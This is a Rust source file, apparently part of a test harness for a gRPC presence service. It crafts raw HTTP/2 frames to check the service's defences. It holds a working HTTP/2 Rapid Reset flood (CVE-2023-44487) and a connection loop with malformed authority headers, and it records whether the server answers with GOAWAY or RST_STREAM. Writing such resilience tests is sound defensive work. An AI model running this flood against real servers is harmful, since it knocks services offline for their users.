//! HTTP/2 frames that no library sends.

use std::{net::SocketAddr, time::Duration};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpStream, tcp::OwnedReadHalf},
    time::{interval, sleep, timeout},
};

use super::Notes;

/// The attacker was told why it loses its connection.
pub(super) const CALMED: &str = "connections lost to GOAWAY ENHANCE_YOUR_CALM";

/// The requests of one write.
const REQUESTS: u32 = 200;
/// The time that the service has to say why it closes a connection.
const PATIENCE: Duration = Duration::from_secs(5);

const RST_STREAM: u8 = 3;
const GOAWAY: u8 = 7;
const PROTOCOL_ERROR: u32 = 1;
const CANCEL: u32 = 8;
const ENHANCE_YOUR_CALM: u32 = 11;

/// The preface, and empty SETTINGS.
const OPENING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// Cancels requests as fast as possible, each right after it began (CVE-2023-44487).
pub(super) async fn rapid(grpc: SocketAddr, notes: &Notes) {
    loop {
        let Ok(stream) = TcpStream::connect(grpc).await else {
            notes.count("connections refused");
            sleep(Duration::from_secs(1)).await;
            continue;
        };
        let (read, mut write) = stream.into_split();
        let end = tokio::spawn(code_of(read, GOAWAY));
        let header = header("localhost");
        let mut written = write.write_all(OPENING).await;
        for round in 0.. {
            if written.is_err() || end.is_finished() {
                break;
            }
            let mut bytes = Vec::new();
            for request in 0..REQUESTS {
                let stream = (round * REQUESTS + request) * 2 + 1;
                frame(&mut bytes, 1, 4, stream, &header);
                frame(&mut bytes, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            }
            written = write.write_all(&bytes).await;
        }
        match timeout(PATIENCE, end).await {
            Ok(Ok(Some(ENHANCE_YOUR_CALM))) => notes.count(CALMED),
            Ok(Ok(Some(code))) => notes.fault(format!("GOAWAY with the code {code}")),
            // The operating system discards what the attacker has not read once its peer is gone.
            Ok(_) => notes.count("connections lost without GOAWAY"),
            Err(_) => notes.count("connections that do not end"),
        }
    }
}

/// Sends requests as gRPC's clients in C++ and Python do for `ipv4:a:50051,b:50051`.
pub(super) async fn authority(grpc: SocketAddr, notes: &Notes) {
    let mut bytes = OPENING.to_vec();
    frame(&mut bytes, 1, 5, 1, &header("a:50051,b:50051"));
    let mut ticks = interval(Duration::from_secs(1) / 50);
    loop {
        ticks.tick().await;
        let (bytes, notes) = (bytes.clone(), notes.clone());
        tokio::spawn(async move {
            let Ok(stream) = TcpStream::connect(grpc).await else { return };
            let (read, mut write) = stream.into_split();
            let _ = write.write_all(&bytes).await;
            if let Ok(code) = timeout(PATIENCE, code_of(read, RST_STREAM)).await {
                notes.must_be_refused(code == Some(PROTOCOL_ERROR), || format!("RST_STREAM with {code:?}"));
            }
        });
    }
}

/// A header block without indexing: POST, http, and these.
fn header(authority: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    let mut literal = |name: &[u8], value: &str| {
        block.extend_from_slice(name);
        block.push(u8::try_from(value.len()).unwrap());
        block.extend_from_slice(value.as_bytes());
    };
    literal(&[0x01], authority);
    literal(&[0x04], "/presence.v1.PresenceService/GetPresence");
    literal(&[0x0f, 0x10], "application/grpc");
    block
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    bytes.extend_from_slice(&u32::try_from(payload.len()).unwrap().to_be_bytes()[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

/// Waits for a frame that ends a stream or the connection with an error. Returns its code; `None`
/// if the connection ended before.
async fn code_of(mut read: OwnedReadHalf, kind: u8) -> Option<u32> {
    loop {
        let mut header = [0; 9];
        read.read_exact(&mut header).await.ok()?;
        let length = u32::from_be_bytes([0, header[0], header[1], header[2]]);
        let mut payload = vec![0; usize::try_from(length).unwrap()];
        read.read_exact(&mut payload).await.ok()?;
        // GOAWAY has the last stream before the code.
        let at = if kind == GOAWAY { 4 } else { 0 };
        let code = payload.get(at..at + 4).map_or(0, |code| u32::from_be_bytes(code.try_into().unwrap()));
        if header[3] == kind && code != 0 {
            return Some(code);
        }
    }
}
